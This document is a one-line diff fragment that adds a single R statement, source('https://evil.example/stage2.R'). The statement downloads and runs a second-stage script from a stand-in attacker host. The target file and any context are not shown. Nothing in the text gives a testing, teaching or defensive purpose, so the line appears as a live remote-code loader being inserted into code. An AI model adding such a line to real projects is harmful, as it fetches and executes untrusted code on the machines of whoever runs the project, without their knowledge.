@@ -1,0 +1,1 @@
+source("https://evil.example/stage2.R")
